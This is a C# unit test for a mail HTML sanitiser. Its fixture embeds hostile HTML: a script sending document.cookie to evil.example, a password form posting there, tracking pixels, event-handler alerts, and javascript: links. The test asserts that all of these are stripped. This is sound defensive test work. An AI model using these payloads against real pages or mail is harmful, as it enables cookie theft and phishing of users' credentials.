using Ncp.Api.Cases.Corresponding;

namespace Ncp.Tests.Cases.Corresponding;

public sealed class MailSanitiserTests
{
    private const string Hostile = """
        <html><head><style>body { background: url(https://tracker.example/css.png) }</style>
        <link rel="stylesheet" href="https://evil.example/x.css"><script>alert('head')</script></head>
        <body onload="steal()">
        <p style="color: red; background-image: url('https://tracker.example/bg.png')">Please preserve <b>subscriber data</b>.</p>
        <script>document.location='https://evil.example/?c='+document.cookie</script>
        <img src="https://tracker.example/pixel.gif" alt="logo" onerror="alert(1)">
        <img src="x" onerror="alert(2)">
        <a href="javascript:alert(3)">click</a>
        <a href="https://portal.example/case/42" onclick="alert(4)" style="background:url(https://portal.example/case/42)">the case</a>
        <iframe src="https://evil.example/frame"></iframe>
        <form action="https://evil.example/post"><input name="password"><button>Send</button></form>
        <svg><script>alert(5)</script></svg>
        <object data="https://evil.example/x.swf"></object>
        </body></html>
        """;

    [Fact]
    public void Hostile_html_keeps_its_text_and_loses_every_script_handler_frame_form_and_remote_address()
    {
        var safe = MailSanitiser.Sanitise(Hostile)!;

        Assert.Contains("Please preserve <b>subscriber data</b>.", safe, StringComparison.Ordinal);
        foreach (var gone in new[] { "<script", "onload", "onerror", "onclick", "javascript:", "<iframe", "<form", "<input", "<button", "<svg", "<object", "<link", "<style", "url(", "tracker.example", "evil.example", "src=", "href=" })
        {
            Assert.DoesNotContain(gone, safe, StringComparison.OrdinalIgnoreCase);
        }

        Assert.Contains("<p style=\"color: rgba(255, 0, 0, 1)\">", safe, StringComparison.Ordinal);
        Assert.Contains("the case &lt;https://portal.example/case/42&gt;", safe, StringComparison.Ordinal);
    }

    [Fact]
    public void No_html_stays_no_html() => Assert.Null(MailSanitiser.Sanitise(null));
}
